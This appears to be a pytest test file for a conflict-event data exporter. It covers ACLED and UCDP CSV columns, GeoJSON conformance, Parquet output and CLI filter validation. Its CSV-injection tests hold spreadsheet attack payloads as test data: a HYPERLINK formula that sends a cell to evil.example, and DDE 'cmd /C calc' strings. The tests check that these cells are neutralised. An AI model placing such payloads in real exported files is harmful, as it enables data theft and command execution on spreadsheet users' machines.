"""Exports: ACLED and UCDP column sets, GeoJSON per RFC 7946, Parquet round trip, CLI."""
from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest
import pytest

from sitrep.cli import main
from sitrep.export.acled import COLUMNS as ACLED
from sitrep.export.acled import acled_row
from sitrep.export.ucdp import COLUMNS as UCDP
from sitrep.export.writers import csv_cell
from sitrep.store import Store
from sitrep.reconcile.across import Incidents
from store_fixtures import ZEINAB, extraction, incident

ACLED_REQUIRED = {"event_id_cnty", "event_date", "year", "time_precision", "event_type", "sub_event_type", "actor1",
                  "assoc_actor_1", "actor2", "assoc_actor_2", "iso", "country", "admin1", "admin2", "location",
                  "latitude", "longitude", "geo_precision", "source", "notes", "fatalities", "fatalities_low",
                  "fatalities_best", "fatalities_high", "injuries_low", "injuries_best", "injuries_high", "cameo"}
UCDP_REQUIRED = {"id", "year", "type_of_violence", "conflict_name", "side_a", "side_b", "source_article", "source_original",
                 "where_prec", "where_coordinates", "adm_1", "country", "latitude", "longitude", "date_start", "date_end",
                 "date_prec", "deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown", "best", "high", "low",
                 "number_of_sources"}


def _db(tmp_path):
    path = tmp_path / "x.db"
    with Store.open(path) as s:
        # three different stories (the fixture's template texts share 6 of 7 words: read as one story)
        Incidents(s).add(extraction("a", "Twin car bombs tore through a busy Homs district as a second blast hit a shrine town.",
                         incidents=[incident(killed=25, high=57, injured=39), incident(place=ZEINAB, killed=83)]))
        Incidents(s).add(extraction("b", "Days later the monitor said the toll from the Homs bombings had risen.", published="2016-02-24",
                         incidents=[incident(killed=64)]))
        Incidents(s).add(extraction("c", "A shopkeeper was stabbed to death after an argument over unpaid rent, relatives said.",
                         incidents=[incident(place={}, killed=1, sub="Attack", perpetrator=None)]))
    return str(path)


def _run(capsys, *argv):
    assert main(list(argv)) == 0
    return capsys.readouterr().out


def test_acled_row_columns():
    row = acled_row(incident(killed=25, high=57))
    assert set(row) == ACLED_REQUIRED == set(ACLED)
    assert row["fatalities"] == 25 and row["iso"] == 760 and row["event_id_cnty"].startswith("SYR")


def test_csv_exports_have_the_column_sets(tmp_path, capsys):
    db = _db(tmp_path)
    acled = list(csv.DictReader(io.StringIO(_run(capsys, "export", "--db", db, "--format", "acled"))))
    assert set(acled[0]) == ACLED_REQUIRED and len(acled) == 3
    ucdp = list(csv.DictReader(io.StringIO(_run(capsys, "export", "--db", db, "--format", "ucdp"))))
    assert UCDP_REQUIRED <= set(ucdp[0]) and set(ucdp[0]) == set(UCDP)
    homs = next(r for r in ucdp if r["where_coordinates"] == "Homs")
    assert (homs["low"], homs["best"], homs["high"], homs["number_of_sources"]) == ("25", "64", "64", "2")
    assert len(list(csv.DictReader(io.StringIO(_run(capsys, "export", "--db", db, "-f", "acled", "--min-fatalities", "80"))))) == 1


def test_geojson_follows_rfc7946(tmp_path, capsys):
    doc = json.loads(_run(capsys, "export", "--db", _db(tmp_path), "--format", "geojson"))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert len(doc["features"]) == 3
    for f in doc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        g = f["geometry"]
        if g is None:
            continue
        assert g["type"] == "Point" and len(g["coordinates"]) == 2
        lon, lat = g["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert (lat, lon) == (f["properties"]["latitude"], f["properties"]["longitude"])  # [lon, lat] order
    assert sum(f["geometry"] is None for f in doc["features"]) == 1


def test_jsonl_parquet_and_table(tmp_path, capsys):
    db = _db(tmp_path)
    lines = [json.loads(x) for x in _run(capsys, "export", "--db", db, "-f", "jsonl").splitlines()]
    homs = next(x for x in lines if x["location"] and x["location"]["name"] == "Homs")
    assert homs["n_sources"] == 2 and [v["min"] for v in homs["revisions"] if v["kind"] == "killed"] == [25, 64]
    assert main(["export", "--db", db, "-f", "parquet", "-o", str(tmp_path / "x.parquet")]) == 0
    table = pq.read_table(tmp_path / "x.parquet")
    assert table.num_rows == 3 and "fatalities_best" in table.column_names
    out = _run(capsys, "export", "--db", db, "-f", "table")
    assert "Homs" in out and "25-64" in out
    assert main(["export", "--db", str(tmp_path / "none.db")]) == 5


# -- formula injection (OWASP "CSV injection"): a cell a spreadsheet would run is quoted ---------------

MOPTI = dict(name="Mopti", admin1="Mopti", country="Mali", country_code="ML", geonameid=2453348, latitude=14.4843,
             longitude=-4.1827)


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1, "click")', '\'=HYPERLINK("http://evil.example/?x="&A1, "click")'),
    ("+972 2 555 0100 said the ministry", "'+972 2 555 0100 said the ministry"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Reuters; AP", "Reuters; AP"),
    ("killed 5 people -- police", "killed 5 people -- police"),
    ("", ""),
    (-4.1827, -4.1827),  # numbers stay numbers, negative ones too
    (-1, -1),
    (None, None),
])
def test_csv_cell_quotes_what_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


def _formula_db(tmp_path):
    path = tmp_path / "f.db"
    with Store.open(path) as s:
        Incidents(s).add(extraction("evil", outlet="=HYPERLINK(\"http://evil.example\",\"Reuters\")",
                         incidents=[incident(place=MOPTI, killed=12, quote="@SUM(1+1) said 12 people were killed",
                                             perpetrator="-JNIM")]))
    return str(path)


def _no_formula_cells(rows):
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start like a formula


@pytest.mark.parametrize("fmt", ["acled", "ucdp"])
def test_cli_csv_exports_quote_formula_cells(tmp_path, capsys, fmt):
    rows = list(csv.reader(io.StringIO(_run(capsys, "export", "--db", _formula_db(tmp_path), "--format", fmt))))
    _no_formula_cells(rows)
    cells = [c for c in rows[1] if c.startswith("'")]
    assert any(c.startswith("'=HYPERLINK(") for c in cells), rows[1]
    if fmt == "acled":
        record = dict(zip(rows[0], rows[1]))
        assert record["notes"].startswith("'@SUM(1+1)") and record["actor1"] == "'-JNIM"
        assert float(record["longitude"]) == pytest.approx(-4.1827)


def test_api_csv_stream_quotes_formula_cells(tmp_path):
    from sitrep.serve.exports import _csv

    with Store.open(_formula_db(tmp_path)) as s:
        found, _ = s.query_incidents()
    rows = list(csv.reader(io.StringIO("".join(_csv(iter(found))))))
    _no_formula_cells(rows)
    record = dict(zip(rows[0], rows[1]))
    assert record["source"].startswith("'=HYPERLINK(") and record["actor1"] == "'-JNIM"
    assert float(record["longitude"]) == pytest.approx(-4.1827)


# issue 8 item 7: `sitrep export --since yesterday` printed an empty result and exited 0
@pytest.mark.parametrize("argv, param", [
    (["--since", "yesterday"], "since"),
    (["--until", "2016-02-30"], "until"),
    (["--since", "2016-03-01", "--until", "2016-02-01"], "until"),
    (["--country", "Narnia"], "country"),
    (["--type", "Bombing"], "event_type"),
    (["--event-type", "Battles", "--sub-type", "Air/drone strike"], "sub_event_type"),
    (["--min-fatalities", "-1"], "min_fatalities"),
    (["--min-fatalities", "many"], "min_fatalities"),
    (["--bbox", "10,0,5,1"], "bbox"),
    (["--bbox", "west"], "bbox"),
    (["--actor", " "], "actor"),
    (["--q", '")(*'], "q"),
])
def test_bad_filters_are_one_line_and_exit_2_with_the_apis_message(tmp_path, capsys, argv, param):
    from fastapi.testclient import TestClient

    from serve_fixtures import make_app

    db = _db(tmp_path)
    assert main(["export", "--db", db, *argv]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    flags = dict(zip(argv[::2], argv[1::2]))
    names = {"--type": "event_type", "--event-type": "event_type", "--sub-type": "sub_event_type",
             "--min-fatalities": "min_fatalities"}
    query = {names.get(k, k.lstrip("-")): v for k, v in flags.items()}
    api = TestClient(make_app()).get("/api/incidents", params=query).json()["error"]
    assert api["details"][0]["param"] == param
    assert err.strip() == f"sitrep: error: {api['message']}"  # one validation, the same words


def test_good_filters_still_select(tmp_path, capsys):
    db = _db(tmp_path)
    rows = _run(capsys, "export", "--db", db, "-f", "jsonl", "--country", "sy", "--since", "2016-01-01",
                "--bbox", "36.5,34.5,37,35", "--q", "bomb*")
    assert len(rows.splitlines()) == 1
